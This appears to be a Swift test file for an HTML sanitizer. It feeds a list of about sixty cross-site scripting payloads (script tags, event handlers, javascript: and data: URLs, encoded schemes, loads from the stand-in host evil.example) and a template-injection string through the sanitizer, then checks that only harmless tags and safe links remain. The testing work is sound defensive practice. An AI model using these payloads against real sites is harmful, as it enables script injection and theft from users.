import Candor
import Foundation
import Testing

struct MarkupTests {
  static let attacks: [String] = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=x>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>", "<a href='http://evil.example'>x</a>",
    "<p onclick=alert(1)>x</p>", "<p/onclick=alert(1)>x</p>",
    "<p style='background:url(//e)'>x</p>",
    "<b onmouseover='alert(1)'>x</b>", "<body onload=alert(1)>", "<style>@import '//evil'</style>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//e'>",
    "<base href=//evil.example>", "<object data=//evil.example></object>", "<embed src=//evil>",
    "<form action=//evil.example><input name=x></form>", "<button formaction=//evil>x</button>",
    "<video src=//evil.example autoplay></video>", "<audio src=//evil.example></audio>",
    "<table background=//evil.example>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<!--><img src=x>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='//evil'?>",
    "<p title='><img src=x onerror=alert(1)>'>x</p>", "<p title=\"'\"><script>x</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<title><img src=x></title>",
    "<textarea><script>alert(1)</script></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>", "<a href='{x}'>x</a>", "<img",
    "<a href='x",
    "<p onclick", "<x:script>alert(1)</x:script>", "<\u{0}script>alert(1)</script>",
    "<a href='mailto:a@b' onclick='alert(1)'>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</p><script>alert(1)</script>", "<<script>alert(1)//<</script>", "<b><script</b>>alert(1)",
  ]

  /// What a browser would find in it: tags, with their attributes.
  private func tags(in html: String) -> [(name: String, attributes: String)] {
    html.matches(of: /<\/?([^\s>\/]*)([^>]*)>?/).map { (String($0.1), String($0.2)) }
  }

  @Test(arguments: MarkupTests.attacks)
  func `of an attack only words and harmless tags are left`(_ attack: String) {
    let hostile = "\"><script>alert(2)</script><p x='"
    let html = Markup(attack).html { _ in hostile }
    let allowed: Set<String> = [
      "p", "br", "b", "strong", "i", "em", "u", "s", "small", "sub", "sup", "code", "blockquote",
      "ul", "ol", "li", "h2", "h3", "h4", "a",
    ]
    for (name, attributes) in tags(in: html) {
      #expect(allowed.contains(name), "\(html)")
      guard !attributes.isEmpty else { continue }
      let link = attributes.wholeMatch(of: /\ href="([^"<>]*)"/)
      let target = link.map { String($0.1) } ?? "no link"
      #expect(name == "a", "\(html)")
      #expect(
        target.wholeMatch(of: /https:\/\/.*|mailto:.*|#.*|\/(?![\/\\]).*|\//) != nil,
        "\(html)"
      )
    }
  }

  @Test(arguments: MarkupTests.attacks.filter { !$0.hasPrefix("&lt;") && !$0.hasPrefix("<<") })
  func `markup that is let through is let through again unchanged`(_ attack: String) {
    let html = Markup(attack).html()
    #expect(Markup(html).html() == html)
    #expect(Markup(html).refused.isEmpty)
  }

  @Test func `harmless markup stays as it was written`() {
    let html = "<h2>Done</h2><p>You <b>are</b> &amp; <a href=\"/me\">here</a><br></p>"
    #expect(Markup(html).html() == html)
    #expect(Markup(html).refused.isEmpty)
  }

  @Test func `an answer is text, whatever is in it`() {
    let markup = Markup("<p>Dear {name}, {nobody}</p>")
    #expect(markup.names == ["name", "nobody"])
    let html = markup.html { $0 == "name" ? "<b>Mara</b> & \"Co\"" : nil }
    #expect(html == "<p>Dear &lt;b&gt;Mara&lt;/b&gt; &amp; &quot;Co&quot;, </p>")
  }

  @Test func `tags are closed in order`() {
    #expect(Markup("<b><i>x</b>y</i>").html() == "<b><i>x</i></b>y")
    #expect(Markup("<p>open").html() == "<p>open</p>")
    #expect(Markup("</p>shut").html() == "shut")
  }
}
